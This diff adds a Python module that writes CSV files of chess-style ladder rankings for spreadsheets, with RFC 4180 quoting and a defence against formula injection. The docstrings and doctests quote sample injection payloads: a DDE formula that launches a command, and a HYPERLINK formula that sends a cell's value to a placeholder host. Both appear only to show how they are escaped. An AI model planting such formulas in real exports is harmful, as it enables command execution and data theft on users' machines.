@@ -1,0 +1,114 @@
+"""Writing CSV for a spreadsheet: the one writer of every CSV elo_core gives (the ladder's ranking and a player's
+history, `elo-core ladder --csv` and `--history`, the tournament report's table that the widget downloads).
+
+- Separators: `,`; `;`, with decimal commas (as German or French Excel reads a file); a tab.
+- Quoting as RFC 4180: a cell that holds the separator, a double quote or a line break is quoted, its quotes
+  doubled.
+- Formulas kept as text (OWASP, "CSV Injection"): a text cell that a spreadsheet would run as a formula, one
+  that starts with `=`, `+`, `-`, `@`, a tab or a carriage return and is no plain number (`-12.5` is one), is
+  written with a leading apostrophe, which Excel, LibreOffice and Google Sheets read as "this is text". A
+  player named `=HYPERLINK("http://x"&A1,"Click")` is then shown as his name, not as a link.
+- Cells: text; numbers (unrounded, as Python writes them, a whole float without `.0`); `yes`/`no` for a
+  boolean; nothing for None.
+"""
+
+from __future__ import annotations
+
+import math
+import re
+from collections.abc import Iterable, Sequence
+from typing import Any
+
+from ._contract import Problems, read_choice
+from ._errors import show
+
+SEPARATORS = (",", ";", "\t")
+"""The separators written: comma (the default), semicolon (decimal commas), tab."""
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""A text cell starting with one of these is run as a formula by a spreadsheet (OWASP's list)."""
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")
+"""Text that is a number (`-12.5`, `+3`, `-7,4`): no formula, written as it is."""
+
+
+def cell(value: Any, separator: str = ",") -> str:
+    """A cell's text before quoting: numbers with a decimal comma under `;`, formulas kept as text.
+
+    >>> cell(1512.25, ";"), cell(3.0), cell(True), cell(None), cell("-12.5"), cell("=1+1"), cell("@SUM(A1)")
+    ('1512,25', '3', 'yes', '', '-12.5', "'=1+1", "'@SUM(A1)")
+    """
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "yes" if value else "no"
+    if isinstance(value, float):
+        text = repr(int(value)) if value.is_integer() else repr(value)
+        return text.replace(".", ",") if separator == ";" else text
+    if isinstance(value, int):
+        return str(value)
+    text = str(value)
+    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def _quoted(text: str, separator: str) -> str:
+    """RFC 4180: a field holding the separator, a quote or a line break in quotes, its quotes doubled."""
+    if separator in text or '"' in text or "\n" in text or "\r" in text:
+        return '"' + text.replace('"', '""') + '"'
+    return text
+
+
+def write_csv(rows: Iterable[Sequence[Any]], separator: str = ",", newline: str = "\n") -> str:
+    """Rows of cells (the first one a header, as the caller gives it) as CSV text, each line ended by `newline`
+    (`\\r\\n` for a file a browser saves, as RFC 4180 writes it; `\\n` for text printed, which the platform ends
+    its own way).
+
+    >>> print(write_csv([["name", "rating"], ["Meier, Anna", 1512.25], ["=cmd|' /C calc'!A0", -7.5]], ";"), end="")
+    name;rating
+    Meier, Anna;1512,25
+    '=cmd|' /C calc'!A0;-7,5
+    """
+    if separator not in SEPARATORS:
+        raise ValueError(f"expected the separator to be one of , ; or a tab, got {show(separator)}")
+    return "".join(separator.join(_quoted(cell(value, separator), separator) for value in row) + newline
+                   for row in rows)
+
+
+def _read_table(value: Any, problems: Problems) -> list[list[Any]] | None:
+    """`table`: a list of rows, each a list of cells (text, a finite number, a boolean or null); None, and the
+    first cell that is none of these in `problems`."""
+    if not isinstance(value, list):
+        problems.add("table", "not_a_list", f"expected table to be a list of rows, got {show(value)}",
+                     value=show(value))
+        return None
+    for i, row in enumerate(value):
+        if not isinstance(row, list):
+            problems.add(f"table[{i}]", "not_a_list", f"expected table[{i}] to be a row (a list of cells), got "
+                         f"{show(row)}", value=show(row))
+            return None
+        for j, item in enumerate(row):
+            if not (item is None or isinstance(item, (str, int, float))) or (
+                    isinstance(item, float) and not math.isfinite(item)):
+                problems.add(f"table[{i}][{j}]", "not_a_choice", f"expected table[{i}][{j}] to be text, a "
+                             f"finite number or null, got {show(item)}", value=show(item))
+                return None
+    return value
+
+
+def table_csv(request: Any) -> dict[str, Any]:
+    """A table as the CSV file a browser saves; never raises. Request: `{"table": [[header cells], [cells], ...],
+    "separator": "," (default) | ";" | tab}`, a cell text, a number or null. Answer: `{"ok": true, "csv": <text>}`
+    (CRLF line ends), or `{"ok": false, "errors": [...]}` as `calculate` answers.
+
+    >>> table_csv({"table": [["name", "change"], ["@Anna", -7.4]]})["csv"]
+    "name,change\\r\\n'@Anna,-7.4\\r\\n"
+    """
+    problems = Problems()
+    if not isinstance(request, dict):
+        problems.add("", "not_an_object", "expected the request to be an object")
+        return {"ok": False, "errors": problems.items}
+    separator = read_choice(request, "separator", "separator", SEPARATORS, problems)
+    table = _read_table(request.get("table"), problems)
+    if problems or table is None:
+        return {"ok": False, "errors": problems.items}
+    return {"ok": True, "csv": write_csv(table, separator, "\r\n")}
